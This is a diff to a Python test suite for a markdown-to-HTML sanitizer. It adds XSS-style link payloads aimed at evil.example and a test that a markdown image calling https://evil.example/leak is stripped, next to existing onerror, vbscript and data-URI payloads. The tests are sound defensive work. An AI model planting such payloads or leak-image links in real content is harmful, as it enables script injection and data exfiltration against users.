@@ -50,6 +50,8 @@ HTML_PAYLOADS = [
     "<!--<img src=x onerror=alert(1)>-->",
     "<a href='vbscript:msgbox(1)'>vb</a>",
     "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=' onload=alert(1)>",
+    "<a href='//evil.example/'>protocol-relative</a>",
+    "<a href='https:/\\evil.example'>backslash</a>",
 ]
 
 
@@ -68,6 +70,11 @@ def test_markdown_raw_html_and_script_links_are_made_inert() -> None:
     out = markdown_html(source)
     assert not ACTIVE.search(out.lower()), out
     assert "<h1>Title</h1>" in out and 'href="https://example.org"' in out
+
+
+def test_markdown_images_load_nothing_remote() -> None:
+    out = markdown_html("![x](https://evil.example/leak?d=1) ![y](data:image/png;base64,AAAA)")
+    assert "evil.example" not in out and 'src="data:image/png;base64,AAAA"' in out
 
 
 def test_markdown_keeps_math_and_tables() -> None:
